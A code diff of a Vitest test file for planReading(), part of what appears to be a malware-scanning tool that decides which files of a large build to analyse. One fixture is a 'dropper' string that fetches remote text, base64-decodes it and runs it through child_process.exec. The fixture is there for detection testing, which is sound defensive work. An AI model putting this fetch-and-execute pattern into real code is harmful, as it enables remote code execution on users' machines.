@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { isOrdinary, planReading, suspicionOrder } from './reading-plan.ts';
-import { testBuild } from '../open-build.ts';
+import { planReading } from './reading-plan.ts';
+import { isOrdinary, suspicionOrder } from './suspicion.ts';
+import { testBuild } from '../test-build.ts';
 
 type ReadingPlan = ReturnType<typeof planReading>;
 
@@ -26,21 +27,14 @@ describe('planReading()', () => {
   });
 
   it('reads all of a large build that is within the limits, without keeping trees', () => {
-    const plan = planned({ 'a.js': filler(2_500_000), 'b.js': filler(2_500_000) });
+    const plan = planned({ 'a.js': filler(900_000), 'b.js': filler(900_000) });
     expect([plan.keepsTrees, plan.unparsed.size]).toEqual([false, 0]);
     expect(paths(plan.analysed)).toEqual(['a.js', 'b.js']);
   });
 
-  it('does not count the comments of files that they alone make too large', () => {
-    const padding = `/*${'x '.repeat(2_550_000)}*/\n`;
-    const files = ['a.js', 'b.js', 'c.js'].map((path) => [path, `${padding}fetch(a);\n`]);
-    const plan = planned(Object.fromEntries(files) as Record<string, string>);
-    expect([plan.unparsed.size, plan.analysed.length]).toEqual([0, 3]);
-  });
-
   it('reads the most suspicious files of a very large build, in the order of the build', () => {
     const large = Object.fromEntries(
-      Array.from({ length: 8 }, (_, n) => [`b/${n}.py`, filler(3_000_000, 'import os\n')]),
+      Array.from({ length: 12 }, (_, n) => [`b/${n}.py`, filler(950_000, 'import os\n')]),
     );
     const dropper = "require('child_process').exec(atob(await (await fetch(a)).text()))";
     const files = { 'a.js': 'process.env.A', ...large, 'setup.py': 'import os', 'z.js': dropper };
@@ -50,22 +44,10 @@ describe('planReading()', () => {
       'setup.py',
       'z.js',
     ]);
-    expect(plan.relevant).toHaveLength(11);
-    expect(plan.analysed.length).toBeLessThan(6);
+    expect(plan.relevant).toHaveLength(15);
+    expect(plan.analysed.length).toBeLessThan(9);
     expect(plan.unparsed.size).toBeGreaterThan(0);
     for (const file of plan.analysed) expect(plan.unparsed.has(file)).toBe(false);
-  });
-
-  it('counts the slower parsers', () => {
-    const large = (extension: string): ReadingPlan =>
-      planned(
-        Object.fromEntries(
-          Array.from({ length: 24 }, (_, n) => [`${n}.${extension}`, filler(950_000, 'a = 1;\n')]),
-        ),
-      );
-    expect(large('js').unparsed.size).toBe(0);
-    expect(large('py').unparsed.size).toBeGreaterThan(0);
-    expect(large('jsx').unparsed.size).toBeGreaterThan(large('py').unparsed.size);
   });
 
   it('does not count what is too large to be parsed at all', () => {
